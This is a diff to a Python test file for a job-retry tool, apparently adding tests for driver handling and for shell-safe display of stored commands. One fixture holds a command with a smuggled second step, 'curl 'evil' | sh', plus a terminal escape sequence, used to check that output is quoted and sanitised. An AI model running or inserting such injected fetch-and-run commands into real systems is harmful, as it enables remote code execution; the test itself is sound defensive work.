@@ -1,5 +1,6 @@
 """Trying again what failed: the wish, who heeds it, and what outweighs what."""
 
+import shlex
 from datetime import timedelta
 
 import pytest
@@ -49,6 +50,30 @@ def test_a_living_driver_is_told_of_every_run_that_failed_or_was_stopped(failed)
     assert {run.id for run in wished.runs} == {TUNED, OTHER}
     assert [heeded.takes(run) for run in (TUNED, OTHER, BASE)] == [True, True, False]
     assert "node-7" in str(wished)
+
+
+def test_a_driver_that_is_silent_heeds_a_wish_when_it_is_heard_of_again(failed):
+    since = moment(failed) - timedelta(minutes=5)
+    driver = {"id": "d" * 32, "experiment": "mine", "host": "node-7", "process": 4, "cluster": "c"}
+    write(failed, [Driver(**driver, started_at=since, at=since)])
+    wished = ask_to_retry(failed, TUNED, "ada")
+    heeded = Retries(failed, since=since)
+    heeded.look()
+
+    assert wished.driver is None and "node-7" in str(wished)
+    assert heeded.takes(TUNED)
+
+
+def test_a_command_of_the_ledger_is_shown_so_that_a_shell_runs_nothing_else(failed):
+    command = "-m jobs run x.yaml; curl 'evil' | sh \x1b[2J"
+    foreign = "f0ee16f0ee16"
+    write(failed, [tuned_run(foreign, state="failed", provenance={"command": command})])
+    said = str(ask_to_retry(failed, foreign, "ada"))
+
+    assert shlex.split(said.partition("goes on with it: ")[2])[:5] == [
+        "python", "-m", "jobs", "run", "x.yaml;"
+    ]  # fmt: skip
+    assert "\x1b" not in said
 
 
 def test_each_wish_is_taken_once_and_a_new_one_again(failed):
